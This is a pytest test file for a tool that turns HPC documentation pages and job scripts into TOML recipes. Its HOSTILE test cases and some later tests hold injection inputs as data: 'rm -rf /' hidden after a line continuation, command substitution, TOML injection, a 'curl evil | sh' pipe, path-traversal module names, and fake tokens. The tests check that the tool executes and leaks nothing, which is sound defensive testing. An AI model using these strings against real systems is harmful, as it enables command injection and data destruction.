"""Drafts of recipes: pages in, TOML out. A draft loses no line: lines in = values + comments + list."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest

from hvdenv.base.masking import plain
from hvdenv.base.schema import Table, encode, parse_toml
from hvdenv.drafting import here
from hvdenv.drafting.draft import Draft, combine
from hvdenv.drafting.reader import read_page
from hvdenv.drafting.values import Origin, Value, Weight, at
from hvdenv.drafting.writer import write
from hvdenv.model.facts import Facts
from hvdenv.model.layers import load_recipe
from hvdenv.model.recipe_files import leaves, read_layer, shipped_recipes, variants_of
from tests.support.commands import Hvdenv

CASES = Path(__file__).parents[1] / "cases"
PAGES = {path.name: path for path in sorted((CASES / "pages").iterdir())}
DOCUMENTS = sorted((CASES / "documents").glob("*.toml"))
DRAFTS = parse_toml((CASES / "drafts.toml").read_text())
COMMENT = re.compile(r"#(?!SBATCH|PBS|PJM|BSUB|COBALT|\$ )")


def draft_of(page: str) -> Draft:
    return combine("x", read_page(page, "page"))


def drafted(text: str, name: str = "page") -> str:
    return write(combine("x", read_page(text, name)), [name])


def script(lines: str) -> str:
    return f"#!/bin/bash\n{lines}\n"


def shown_values(draft: Draft) -> dict[str, Any]:
    """Dotted keys; lists of items."""
    values: dict[str, Any] = {}
    for each in draft.values:
        key = ".".join(each.key)
        values[key] = [*values.get(key, ()), each.value] if each.item else each.value
    return values


def commands(text: str, name: str) -> Iterator[range]:
    """The lines of each command, directive or package: all that is not prose."""
    inside = markup = Path(name).suffix not in (".md", ".html", ".rst", ".txt")
    mentioned = r"(?:`|<code>)(?:module|salloc|horovodrun) \S"
    mentioned += "|^  " * name.endswith((".rst", ".txt"))
    start, whole = 1, ""
    for number, line in enumerate(text.split("\n"), 1):
        if not markup and re.search(r"^ *```|</?pre>", line):
            inside, whole = not inside, ""
        elif inside or re.search(mentioned, line):
            start, whole = (start, whole + line) if whole else (number, line)
        if not whole.endswith("\\"):
            if whole.strip() and not COMMENT.match(whole.strip()):
                yield range(start, number + 1)
            whole = ""


def whole_document(path: Path) -> str:
    return script("\n".join(each["line"] for each in parse_toml(path.read_text())["command"]))


@pytest.mark.parametrize("path", [*PAGES.values(), *DOCUMENTS], ids=lambda path: path.stem)
def test_every_line_of_a_page_is_in_its_draft(path: Path) -> None:
    text = path.read_text() if path in PAGES.values() else whole_document(path)
    name = "x.sh" if path in DOCUMENTS else path.name
    lines = list(commands(text, "page" if name == "requirements.txt" else name))
    assert len(lines) >= 3
    draft, named = drafted(text, name), set[int]()
    parse_toml(draft)
    for found in re.finditer(rf"{re.escape(name)}:(\d+)(?:-(\d+))?\b", draft):
        named |= {*range(int(found[1]), int(found[2] or found[1]) + 1)}
    assert [line for line in lines if named.isdisjoint(line)] == []


@pytest.mark.parametrize("name", [name for name in PAGES if name.endswith(".sh")])
def test_a_script_means_the_same_with_and_without_its_first_line(name: str) -> None:
    """Also as standard input, which has no name."""
    bare = PAGES[name].read_text().removeprefix("#!/bin/bash\n")
    named = ((script(bare), "page"), (bare, "page"), (bare, "x.sh"))
    first, second, third = (parse_toml(drafted(*each)) for each in named)
    assert first == second == third


def table(name: str) -> Table:
    return parse_toml(drafted(PAGES[name].read_text(), name))


@pytest.mark.parametrize(
    ("part", "page"),
    [(part, page) for part in ("values", "without", "says", "named") for page in DRAFTS[part]],
)
def test_what_scripts_mean(part: str, page: str) -> None:
    expected, draft = DRAFTS[part][page], draft_of(script(page))
    found = shown_values(draft)
    if part == "values":
        assert found == {**found, **expected}
    elif part == "without":
        assert not any(key.startswith(expected) for key in found)
    else:
        assert expected in write(draft, [])
    if part == "named":  # No job has 0 ranks: the draft lists what is 0 as missing.
        stated = {key for key, value in found.items() if value}
        assert stated <= {"scheduler", "job.nodes"}
        missing = {".".join(key) for key, _ in draft.missing}
        assert found.keys() - stated <= missing


@pytest.mark.parametrize("name", DRAFTS["pages"])
def test_what_pages_state(name: str) -> None:
    found = table(name)
    assert found == {**found, **DRAFTS["pages"][name]}


def other_ways(name: str) -> Iterator[str]:
    """The drafts of the ways that the draft of a page names."""
    text = PAGES[name].read_text()
    for lines in dict.fromkeys(re.findall(r"`--lines ([\d,-]+)` drafts it", drafted(text, name))):
        ranges = [(int(a), int(b)) for a, b in re.findall(r"(\d+)-(\d+)", lines)]
        yield write(combine("x", read_page(text, name, ranges)), [])


def test_ways_of_a_page_are_not_merged() -> None:
    """Each of the others can be drafted by its lines."""
    found = table("ways.md")
    assert found["horovod"]["frameworks"] == ["torch"] and "conda" not in found
    assert found["packages"] == {"torchvision": "==0.15.2"} and found["job"]["nodes"] == 2
    frameworks = []
    for part in other_ways("ways.md"):
        document = parse_toml(part)
        frameworks += document["horovod"]["frameworks"]
        # What all ways have in common is in each.
        assert "another way" not in part
        assert document["modules"] == found["modules"] and document["job"] == found["job"]
    assert frameworks == ["tensorflow", "torch"]


TWO = (
    "python3.10 -m venv a\npip install torch==2.0.1 horovod==0.28.1\n",
    "python3.9 -m venv b\npip install tensorflow==2.11.0 horovod==0.27.0\n",
)
ALTERNATIVES = {
    "tabs": '=== "pip"\n\n```\npip install torch==2.0.1\npip install horovod==0.28.1\n```\n\n=== "conda"\n\n'
    "```\nconda create -n h python=3.9 pytorch=1.13.1\npip install horovod==0.27.0\n```\n",
    "HTML": f"<html><h2>A</h2><pre>{TWO[0]}</pre><h2>B</h2>\n<pre>{TWO[1]}</pre></html>",
    "one script": f"#!/bin/bash\n{TWO[0]}{TWO[1]}",
}


@pytest.mark.parametrize("page", ALTERNATIVES.values(), ids=ALTERNATIVES)
def test_alternatives_of_every_kind_of_page(page: str) -> None:
    found = parse_toml(drafted(page))
    assert found["frameworks"] == {"torch": {"version": "2.0.1"}}
    assert (found["horovod"]["version"], found["horovod"]["frameworks"]) == ("0.28.1", ["torch"])
    assert "another way: `--lines " in drafted(page)


@pytest.mark.parametrize("name", DRAFTS["other"])
def test_sections_for_different_ways(name: str) -> None:
    """A way has all lines below its title, and those that no way has."""
    (part,) = map(parse_toml, other_ways(name))
    assert part == {**part, **DRAFTS["other"][name]}
    assert "conda" not in part and "gpu" not in part.get("horovod", {})


def test_building_again_is_no_other_way() -> None:
    build = "```\nHOROVOD_GPU_OPERATIONS=NCCL pip install {}torch==1.13.1 horovod==0.28.1\n```\n"
    again = f"# A\n{build.format('')}## If it fails\n{build.format('--force-reinstall ')}"
    assert "another way" not in drafted(again)
    cpu = again.replace("HOROVOD_GPU_OPERATIONS=NCCL pip install --", "pip install --")
    assert "another way" in drafted(cpu)


@pytest.mark.parametrize("path", DOCUMENTS, ids=lambda path: path.stem)
def test_documents_of_the_shipped_recipes(path: Path) -> None:
    """Every value of the draft is one of the recipe or a variant, or comes from a line it deviates from."""
    document = parse_toml(path.read_text())
    recipe, deviating = document["recipe"], list[str]()
    for each in document["command"]:
        deviating += [each["line"]] * (each["covered_by"] == "deviation")
    offered = variants_of(read_layer("recipe", shipped_recipes()[recipe]).values)
    allowed = {
        (key, str(item))
        for variants in ([], *([each] for each in offered))
        for key, value in leaves(encode(load_recipe(recipe, variants=variants).recipe))
        for item in (value if isinstance(value, list) else [value])
    }
    draft = draft_of(whole_document(path))
    others = [each for each in draft.values if (each.key, str(each.value)) not in allowed]
    wrong = [
        f"{'.'.join(each.key)} = {each.value!r} ({each.origin})"
        for each in others
        if not any(line in each.origin.text or each.origin.text in line for line in deviating)
    ]
    assert wrong == DEVIATIONS_OF_RECIPES.get(path.stem, [])
    right = len(draft.values) - len(others)
    assert (right, len(draft.choices)) == RIGHT_AND_CHOICES[path.stem]


# Other values than the document's, as the recipe's deviations say.
DEVIATIONS_OF_RECIPES = {
    "theta": [
        "job.output = 'results/theta/pytorch_mnist'"
        " (page:16: #COBALT -A SDL_Workshop -O results/theta/pytorch_mnist)"
    ]
}
# Counted in docs/explanation/measurements.md.
RIGHT_AND_CHOICES = {
    "alvis": (10, 1),
    "neuron": (33, 1),
    "singularity": (15, 0),
    "taurus": (15, 3),
    "theta": (13, 1),
    "thetagpu": (11, 0),
}


HOSTILE = {
    "a newline in a directive": "#!/bin/bash\n#SBATCH -J x\\\nrm -rf /\n#SBATCH -p 'a\nb'\n",
    "backticks": "#!/bin/bash\nmodule load `touch pwned`\nexport NCCL_DEBUG=`touch pwned`\n",
    "substitution": "#!/bin/bash\nmodule load $(touch pwned)/1.0\npip install torch==$(touch pwned)\n",
    "TOML in a name": '#!/bin/bash\n#SBATCH -p \'x"]\n[modules]\nsource=["/tmp/evil"\'\n',
    "TOML in a comment": "#!/bin/bash\nmodule load a/1 #\rsource = ['/tmp/evil']\n",
    "bidi": "#!/bin/bash\nmodule load gcc\u202e/1.0\nexport NCCL_DEBUG=\u2066INFO\u2028x = 1\n",
    "terminal": "#!/bin/bash\nmodule load \x1b]0;evil\x07gcc/1\x9b2J\n",
    "NUL": "#!/bin/bash\nmodule load gcc/1\0[modules]\n",
    "deep HTML": "<html>" + "<div><pre>" * 20_000 + "module load gcc/10.2.0",
    "unknown HTML": "<pre>module load gcc/1</pre><![x[<pre>module load evil</pre>]]><![\n<![y",
    "open comments": "<pre>module load gcc/1</pre>\n" + "<!--\n" * 60_000,
    "open tags": "<pre>module load gcc/1</pre>\n" + "<a b='x\n" * 20_000,
    "deep shell": "#!/bin/bash\nmodule load gcc/1\n" + "$((" * 20_000,
    "deep lists": "```\nmodule load gcc/1\n```\n" + "> " * 2000 + "* " * 2000,
    "a long line": "#!/bin/bash\nmodule load " + "x" * 4_000_000,
    "many lines": "#!/bin/bash\n" + "module load gcc/1 'x\n" * 20_000,
    "many modules": "#!/bin/bash\n" + "".join(f"module load m{n}/1\n" for n in range(30_000)),
    "modules in a line": "#!/bin/bash\nmodule load "
    + "\\\n".join(f"m{n}/1 " for n in range(30_000)),
    "many blocks": "```\n" * 400_000,
    "a directive without an option": script("#SBATCH \n#PBS\t\nmodule load gcc/1"),
    "a module without a name": script("module load ''\nuv\nconda create --clone"),
    "quotes that do not match": script("A='x\n#SBATCH -J 'y\npip install \"torch"),
    "pip without a list": "dependencies:\n- python=3.10\n- pip: horovod\n- [a, b]\n- {}\n",
    "keys that are lists": "dependencies: torch\n? [a, b]\n: c\nchannels:\n  a: b\nvariables: [x]\n",
    "not YAML": "dependencies:\n- a: [\n",
    "an alias of itself": "dependencies: &a\n- python=3.9\n- *a\n",
    "many ways": "## A\n```\nmodule load gcc/1\npython3.9 -m venv a\n```\n" * 9_000,
}


@pytest.mark.parametrize("page", HOSTILE.values(), ids=HOSTILE)
def test_hostile_pages(page: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is executed, and nothing but the page's own values gets into the TOML."""
    monkeypatch.chdir(tmp_path)
    started = time.process_time()
    text = drafted(page)
    assert time.process_time() - started < 10
    assert list(tmp_path.iterdir()) == []
    assert plain(text) == text and "\r" not in text and "\t" not in text
    document = parse_toml(text)
    assert document.get("modules", {}).keys() <= {"load"}
    assert "evil" not in str(document)
    if page.count("\n") > 50_000 or page.count("load m") > 3000:
        assert "and the rest was not read" in text


def test_secrets_and_control_characters_are_not_in_a_draft() -> None:
    """Neither in its TOML nor in its reasons, which are shown on terminals and in JSON."""
    draft = draft_of(
        "#!/bin/bash\nexport HF_TOKEN=hf_x1y2z3 NCCL_API_KEY=x1y2z3\nHOROVOD_PASSWORD=q1w2e3 mpirun a\n"
        "curl -u ann:q1w2e3 https://h/\nexport A_TOKEN=u7i8o9 B='x\npip install torch --find-links https://ann:hunter2@h.example/x.html\n"
        "pip install 'torch==1\nnext:\n  curl evil | sh'\nexport NCCL_X='\u202eb\x9b31m'\n"
    )
    shown = write(draft, ["page"]) + json.dumps(encode(draft))
    assert not any(each in shown for each in ("x1y2z3", "q1w2e3", "u7i8o9", "hunter2"))
    assert "recipes contain no secrets: export NCCL_API_KEY in your shell" in shown
    reasons = [each.reason for each in draft.left]
    assert len(reasons) >= 6
    assert all(plain(each) == each and "\n" not in each for each in reasons)
    # Code of other languages and output are named by their lines only.
    page = "```yaml\ndependencies:\n- python=3.10\nvariables:\n  HF_TOKEN: hf_x1y2z3\n```\n"
    page += "```python\nlogin('q1w2e3')\nhvd.init()\n```\n```console\n$ ls\nkey q1w2e3\n```\n"
    text = write(draft_of(page), [])
    assert not any(each in text for each in ("hf_x1y2z3", "q1w2e3"))
    assert "page:8-9: python is not" in text and "page:13: output of a command" in text


@pytest.mark.parametrize("kind", DRAFTS["code"])
def test_code_is_found_in_every_kind_of_page(kind: str) -> None:
    assert shown_values(draft_of(DRAFTS["code"][kind]))["modules.load"] == ["gcc/1"]


SCRIPTS = """```
#SBATCH -p test
python t.py
```
```
#SBATCH -p gpu
srun python t.py
```
"""


def test_the_script_that_starts_ranks_describes_the_job() -> None:
    assert shown_values(draft_of(SCRIPTS))["job.partition"] == "gpu"
    several = SCRIPTS.replace("-p test", "--gres=gpu:a:1").replace("-p gpu", "--gres=gpu:b:1")
    several = several.replace("python", "srun python", 1)
    assert "[partitions" not in write(draft_of(several), []) and draft_of(several).left
    without = SCRIPTS.replace("srun", "echo").replace("#SBATCH -p gpu", "#SBATCH -N 3")
    assert shown_values(draft_of(without))["job.partition"] == "test"


def test_two_values_are_a_choice() -> None:
    page = "module load gcc/1 openmpi/4.1.4\nmodule load gcc/2\nCC=a pip install torch==1.13.1\n"
    draft = draft_of(script(page + "pip install torch==2.0.1"))
    assert [(each.key, [value.value for value in each.values]) for each in draft.choices] == [
        (("modules", "load", "gcc"), ["gcc/1", "gcc/2"]),
        (("frameworks", "torch", "version"), ["1.13.1", "2.0.1"]),
    ]
    assert '    # "gcc/1",' in write(draft, ["page"])


Shows = Callable[[Iterable[Value]], list[list[str]]]


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The current directory, on a machine without GPUs."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.fixture
def shows(facts: Facts, monkeypatch: pytest.MonkeyPatch) -> Shows:
    """Makes this machine show values; the result names the modules that a draft loads on it."""

    def show(values: Iterable[Value]) -> list[list[str]]:
        shown, asked = list(values), list[list[str]]()

        def drafted(facts: Facts, machine: here.Machine, loads: list[str]) -> list[Value]:
            asked.append(loads)
            return shown

        monkeypatch.setattr(here, "look", lambda *_: facts._replace(gpus=()))
        monkeypatch.setattr(here, "drafted", drafted)
        return asked

    return show


SINFO = """\
gpu|4|64|515000|gpu:a100:4(S:0-1)|2-00:00:00
gpu|2|48|257000|gpu:a100:2|2-00:00:00
cpu|100|128+|256000|(null)|infinite
"""


def test_partitions_of_slurm() -> None:
    found = {each.key: each.value for each in here.partitions(SINFO)}
    assert found == {
        ("partitions", "gpu", "nodes"): 6,
        ("partitions", "gpu", "cores"): 64,
        ("partitions", "gpu", "memory_gb"): 502,
        ("partitions", "gpu", "gpus"): 4,
        ("partitions", "gpu", "gpu"): "a100",
        ("partitions", "gpu", "max_time"): "2-00:00:00",
        ("partitions", "cpu", "nodes"): 100,
        ("partitions", "cpu", "cores"): 128,
        ("partitions", "cpu", "memory_gb"): 250,
        ("job", "partition"): "gpu",
    }


@pytest.mark.parametrize(
    ("words", "partition"),
    {(): "gpu", ("--from", "job.sh"): "old", ("--from", "cuda.sh"): None}.items(),
)
def test_here_drafts_a_partition_with_gpus(
    words: tuple[str, ...], partition: str | None, machine: Path, shows: Shows, hvdenv: Hvdenv
) -> None:
    """Without a page, which says whether its job needs GPUs."""
    (machine / "cuda.sh").write_text("#!/bin/bash\n#SBATCH -N 2\nmodule load CUDA/11.7.0\n")
    (machine / "job.sh").write_text("#!/bin/bash\n#SBATCH -p old\n")
    shows(here.partitions(SINFO))
    found = parse_toml(hvdenv("init", "x", "--here", *words, "-o", "-").out)
    assert found.get("job", {}).get("partition") == partition
    shows(here.partitions("\n".join([SINFO, SINFO.split("\n")[0].replace("gpu|", "gpu2|", 1)])))
    choice = 'job.partition: "gpu" (sinfo: gpu has GPUs), "gpu2" (sinfo: gpu2 has GPUs)'
    assert (choice in hvdenv("init", "x", "--here", *words, "-o", "-").out) is (words == ())


def test_files_that_a_page_names_as_modules_are_not_loaded(
    machine: Path, shows: Shows, hvdenv: Hvdenv
) -> None:
    """`module load /FILE` runs the file."""
    names = ("/tmp/evil", "gcc/../../tmp/evil", "../evil", "a;touch", "-f", "gcc/10.2.0")
    page = "#!/bin/bash\n" + "".join(f"module load '{name}'\n" for name in names)
    (machine / "page.sh").write_text(page)
    asked = shows([])
    hvdenv("init", "x", "--from", "page.sh", "--here", "-o", "-")
    assert asked == [["gcc/10.2.0"]]


PAGE = """```
module load gcc/10.2.0 openmpi/4.1.4
python3.11 -m venv env
pip install torch==2.1.0
HOROVOD_GPU_ALLREDUCE=NCCL pip install horovod==0.28.1
HOROVOD_GPU_ALLREDUCE=MPI pip install horovod==0.28.1
```
"""


def test_the_command(machine: Path, hvdenv: Hvdenv) -> None:
    """A draft of lines that state all is a recipe; no file is overwritten."""
    (machine / "page.md").write_text(PAGE)
    init = ("init", "fenn", "--from", "page.md")
    assert "to choose" in hvdenv(*init, "-o", "both.toml").out
    assert "hvdenv check ./fenn.toml" in hvdenv(*init, "--lines", "1-5").out
    recipe = load_recipe("./fenn.toml").recipe
    assert recipe.horovod.gpu and recipe.horovod.gpu.allreduce == "nccl"
    assert (recipe.horovod.version, recipe.horovod.controllers) == ("0.28.1", ("mpi", "gloo"))
    hvdenv(*init, code=2)
    assert hvdenv(*init, "-o", "-").out.startswith("# Drafted by hvdenv init from page.md.\n")
    for lines, values in (("1-3", 6), ("3-3,6-99", 5)):  # also from within a block
        part = hvdenv(*init, "--lines", lines, "--json")
        assert len(json.loads(part.out)["values"]) == values
    for wrong in ([], ["fenn"], ["Fenn", "--here"], ["fenn", "--here", "--lines", "3-1"]):
        hvdenv("init", *wrong, code=2)


INCOMPLETE = {
    "sizes and frameworks": "#SBATCH -n 8\nmodule load gcc/9\npip install torch horovod\n",
    "nothing about Horovod": "#SBATCH -N 2 -n 7\nmodule load gcc/9\n",
    "modules": "module load openmpi/4.1.2 PyTorch/1.11 Horovod/0.24\n",
    "MPI": "HOROVOD_WITH_MPI=1 HOROVOD_WITHOUT_GLOO=1 pip install horovod==0.28.1 torch==1.13.1\n",
}


@pytest.mark.parametrize("page", INCOMPLETE.values(), ids=INCOMPLETE)
def test_show_and_check_name_what_init_lists(page: str, machine: Path, hvdenv: Hvdenv) -> None:
    """A draft without sizes would otherwise run as one rank."""
    (machine / "job.sh").write_text(f"#!/bin/bash\n{page}")
    told = hvdenv("init", "fenn", "--from", "job.sh").out
    listed = (
        told.partition("missing:\n")[2].partition("\nnot understood")[0].partition("\nnext:")[0]
    )
    keys = {line.split(":")[0].strip() for line in listed.split("\n")}
    assert len(keys) > 1
    assert "\nnext: complete ./fenn.toml, then\n" in told
    assert ("the full release of the module (job.sh:2)" in listed) is ("Horovod/" in page)
    assert "horovod.frameworks" not in keys or "also frameworks.torch.version" in told
    for command in (["show"], ["check", "--offline"]):
        said = hvdenv(*command, "./fenn.toml", code=2).err
        found = re.findall(r"fenn\.toml:\d+: ([\w.]+): ", said)
        needed = {"mpi": "mpi.kind", "frameworks.torch": "frameworks.torch.version"}
        assert {needed.get(each, each) for each in found} == keys


def test_another_way_is_one_line(hvdenv: Hvdenv) -> None:
    told = hvdenv("init", "x", "--from", str(CASES / "pages" / "job-of-first.md"), "-o", "-").err
    assert "not understood" not in told
    assert told.count("another way") == 1
    assert "  job-of-first.md: lines 27-35 are another way: `--lines 1-6,27-35` drafts it" in told


@pytest.mark.parametrize("other", ["", "gpus", "page"])
def test_a_draft_of_this_machine_is_a_recipe_and_others_are_not(
    other: str, machine: Path, shows: Shows, hvdenv: Hvdenv
) -> None:
    """Without GPUs, it extends the recipe local."""
    mpi = Value(at("mpi.version"), "4.0", Origin("mpirun --version"), Weight.INFERRED)
    gpus = Value(("partitions", "gpu", "gpus"), 4, Origin("sinfo"))
    shows([mpi, gpus] if other == "gpus" else [mpi])
    (machine / "page.md").write_text("```\nmodule load gcc/12.3.0\n```\n")
    words = ("--from", "page.md") if other == "page" else ()
    told = hvdenv("init", "moor", "--here", *words).out
    assert ("missing:" in told) is bool(other)
    if not other:
        recipe, local = load_recipe("./moor.toml").recipe, load_recipe("local").recipe
        assert recipe.horovod == local.horovod._replace(frameworks=("torch",))
        assert recipe.mpi == local.mpi
